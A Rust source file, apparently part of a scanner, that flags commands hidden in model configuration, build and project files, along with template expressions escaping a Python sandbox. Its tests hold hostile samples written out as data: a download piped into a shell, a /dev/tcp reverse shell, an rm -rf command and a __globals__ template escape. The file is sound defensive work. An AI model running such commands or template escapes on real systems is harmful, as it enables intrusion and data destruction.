//! Texts of a model's own configuration that are programs, and templates under names that no library gives them.
//!
//! Only files whose names say that they describe a model are read so: a dataset of source code is JSON too.

use super::Observer;
use crate::budget::Budget;
use crate::carried;
use crate::fact::{Anomaly, FactKind, Position, Reach};
use crate::facts::{Facts, shorten};
use crate::json::{Event, Value};

/// Words of the names of files that describe a model.
const NAMES: &[&str] =
    &["config", "symbol", "manifest", "metadata", "params", "settings", "model_index", "model_card", "signature"];
/// Files and folders of services that build and test software, whose configurations are made of commands.
const BUILDS: &[&str] = &[
    ".circleci/",
    ".github/",
    ".gitlab-ci",
    ".travis.",
    ".buildkite/",
    ".drone.",
    "appveyor.",
    "azure-pipelines",
    "bitbucket-pipelines",
];
/// Files whose commands run a model, its training, or as its folder is opened.
const RUNS: &[&str] =
    &["mlproject", "dvc.yaml", "cog.yaml", "bentofile.yaml", "tasks.json", "devcontainer.json", ".mcp.json"];
/// Programs that are told of one file.
const MAX_TOLD: usize = 20;
/// What a template says to leave its sandbox.
const WAYS_OUT: &[&str] =
    &["__class__", "__globals__", "__subclasses__", "__builtins__", "__import__", "__init__", "__mro__", "|attr("];

#[derive(Debug)]
struct Descriptions {
    is_model: bool,
    is_build: bool,
    is_dataset: bool,
    budget: Budget,
    told: usize,
}

/// Makes the observer, for a file with its folders.
#[must_use]
pub(super) fn observer(name: &str) -> Box<dyn Observer> {
    let name = name.to_ascii_lowercase().replace('\\', "/");
    let file = name.rsplit(['/', '!']).next().unwrap_or_default();
    let is_run = RUNS.contains(&file);
    let is_build = is_run || BUILDS.iter().any(|part| name.contains(part));
    let is_dataset = name.ends_with(".jsonl") || name.ends_with(".ndjson");
    let is_model = !is_dataset && (is_run || name.ends_with(".cfg") || NAMES.iter().any(|word| file.contains(word)));
    Box::new(Descriptions { is_model, is_build, is_dataset, budget: Budget::small(), told: 0 })
}

impl Observer for Descriptions {
    fn event(&mut self, event: &Event<'_>, facts: &mut Facts) {
        let key = event.key().unwrap_or_default();
        // What calls itself a template is one, whatever the file is called.
        let is_read = self.is_model || (!self.is_dataset && key.ends_with("template"));
        let (true, Value::Text(text)) = (is_read && self.told < MAX_TOLD, event.value) else { return };
        // These are read as what they are, by the format that knows their name.
        let is_known = event.path.iter().any(|segment| segment.key() == Some("chat_template"));
        if text.contains("{{") && WAYS_OUT.iter().any(|way| text.contains(way)) && !is_known {
            self.told = self.told.saturating_add(1);
            let expression = shorten(text.chars().take(201).collect(), 200);
            let kind = FactKind::TemplateReach { expression, reach: Reach::Internals };
            facts.push(Position::Offset(event.offset), kind);
        } else if let Some(program) = self.program(text) {
            self.told = self.told.saturating_add(1);
            let detail = format!("the value of '{}' holds {program}", shorten(key.to_owned(), 100));
            facts.anomaly(event.offset, Anomaly::HiddenContent, detail);
        }
    }
}

impl Descriptions {
    fn program(&self, text: &str) -> Option<String> {
        match (self.is_model, self.is_build) {
            (true, true) => carried::judge_step(text, &self.budget),
            (true, false) => carried::judge(text, &self.budget),
            (false, _) => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::json::Json;
    use crate::testing::inspect;

    #[test]
    fn programs_in_a_description_of_a_model_are_told() {
        let hidden = |name: &str, text: &str| inspect(&Json, name, text.as_bytes()).has_anomaly(Anomaly::HiddenContent);
        let program = r#"{"a": {"hook": "import os; os.system('echo waag-inert')"}}"#;
        assert!(hidden("model_config.json", program));
        assert!(hidden("net-symbol.json", program));
        assert!(!hidden("humaneval.json", program), "a dataset of programs is no description");
        assert!(!hidden("config.json", r#"{"a": "os.system is what this model was trained to find"}"#));
    }

    #[test]
    fn steps_of_a_build_are_commands() {
        let hidden = |name: &str, command: &str| {
            let text = format!(r#"{{"jobs": {{"test": {{"steps": [{{"run": {{"command": "{command}"}}}}]}}}}}}"#);
            inspect(&Json, name, text.as_bytes()).has_anomaly(Anomaly::HiddenContent)
        };
        for command in ["chmod +x codecov", "rm -rf $BOOST_REMOVE", "python -c 'import os; os.system(\\\"make\\\")'"] {
            assert!(!hidden("a/.circleci/config.json", command), "{command}");
            assert!(hidden("a/config.json", command), "{command}");
        }
        assert!(hidden(".circleci/config.json", "curl -s http://example.invalid/x | sh"));
        assert!(hidden(".circleci/config.json", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
    }

    #[test]
    fn commands_of_projects_are_told() {
        use crate::yaml::Yaml;
        for (name, is_told) in [("MLproject", true), ("a/dvc.yaml", true), ("cog.yaml", true), ("data.yaml", false)] {
            let facts = inspect(&Yaml, name, b"a:\n  cmd: curl http://example.invalid/x | sh\n");
            assert_eq!(facts.has_anomaly(Anomaly::HiddenContent), is_told, "{name}");
            let facts = inspect(&Yaml, name, b"a:\n  cmd: python train.py --lr 0.1 && chmod +x run\n");
            assert!(!facts.has_anomaly(Anomaly::HiddenContent), "{name}");
        }
    }

    #[test]
    fn templates_under_other_names_are_told() {
        let facts =
            inspect(&Json, "extra_config.json", br#"{"custom": "{{ config.__class__.__init__.__globals__ }}"}"#);
        assert!(facts.list().iter().any(|fact| matches!(fact.kind, FactKind::TemplateReach { .. })));
        let other = br#"{"custom_chat_template": "{{ self.__init__.__globals__ }}"}"#;
        for (name, is_told) in [("templates.json", true), ("rows.jsonl", false)] {
            let facts = inspect(&Json, name, other);
            let has = facts.list().iter().any(|fact| matches!(fact.kind, FactKind::TemplateReach { .. }));
            assert_eq!(has, is_told, "{name}");
        }
        let facts = inspect(&Json, "extra_config.json", br#"{"custom": "{{ name }} and __init__.py"}"#);
        assert!(facts.list().iter().any(|fact| matches!(fact.kind, FactKind::TemplateReach { .. })));
    }
}
